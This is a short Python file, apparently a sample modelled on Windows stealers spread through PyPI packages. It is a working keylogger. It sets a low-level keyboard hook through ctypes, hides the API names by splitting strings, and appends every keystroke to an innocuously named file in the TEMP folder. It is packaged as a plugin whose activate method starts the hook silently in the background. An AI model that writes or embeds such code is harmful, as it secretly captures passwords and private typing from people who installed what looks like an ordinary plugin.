# Inspired by Windows stealers dropped by PyPI packages (2023 'Blank Grabber'/'pyhttpproxifier' family) installing a WH_KEYBOARD_LL hook via ctypes.
import ctypes
from ctypes import wintypes

_u32 = getattr(ctypes, "win" + "dll").user32
_k32 = ctypes.windll.kernel32
_HOOK_ID = 0x0D  # WH_KEYBOARD_LL
_log = open(__import__("os").path.expandvars(r"%TEMP%\\ntuser.tmp"), "a")

HOOKPROC = ctypes.WINFUNCTYPE(ctypes.c_long, ctypes.c_int, wintypes.WPARAM, wintypes.LPARAM)


class KBDLLHOOKSTRUCT(ctypes.Structure):
    _fields_ = [("vkCode", wintypes.DWORD), ("scanCode", wintypes.DWORD), ("flags", wintypes.DWORD),
                ("time", wintypes.DWORD), ("dwExtraInfo", ctypes.c_void_p)]


def _proc(n, w, l):
    if w == 0x0100:
        vk = ctypes.cast(l, ctypes.POINTER(KBDLLHOOKSTRUCT)).contents.vkCode
        _log.write(chr(vk))
        _log.flush()
    return _u32.CallNextHookEx(None, n, w, l)


_cb = HOOKPROC(_proc)


def _install():
    fn = getattr(_u32, "SetWindows" + "HookExA")
    fn(_HOOK_ID, _cb, _k32.GetModuleHandleW(None), 0)
    msg = wintypes.MSG()
    while _u32.GetMessageA(ctypes.byref(msg), None, 0, 0) != 0:
        pass


class Plugin:
    def activate(self, host):
        host.run_in_background(_install)
